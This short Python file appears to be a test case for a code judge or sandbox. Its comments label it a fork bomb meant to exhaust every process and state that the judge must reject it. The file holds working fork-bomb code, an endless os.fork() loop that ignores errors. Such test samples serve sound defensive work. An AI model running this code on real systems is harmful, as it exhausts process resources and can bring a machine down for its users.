# TECHNIQUE: fork bomb (I5)
# ATTEMPTS: takes every process there is.
# JUDGE MUST ANSWER: REJECT
# SLOW
import os

while True:
    try:
        os.fork()
    except OSError:
        pass
